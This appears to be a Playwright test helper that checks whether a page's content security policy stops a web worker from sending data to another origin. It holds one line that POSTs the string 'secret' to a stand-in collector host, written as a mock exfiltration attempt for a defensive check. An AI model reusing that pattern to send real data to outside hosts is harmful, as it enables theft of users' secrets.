import type { Worker as PageWorker } from '@playwright/test';

/** In a worker: try to send to another origin, and report whether the page's policy refused it. */
export async function probe(worker: PageWorker) {
  return worker.evaluate(async () => {
    const violations: string[] = [];
    self.addEventListener('securitypolicyviolation', (e) => violations.push((e as SecurityPolicyViolationEvent).violatedDirective));
    const sent = await fetch('https://collector.example/upload', { method: 'POST', body: 'secret' }).then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((r) => setTimeout(r, 200));
    return { sent, violations };
  });
}
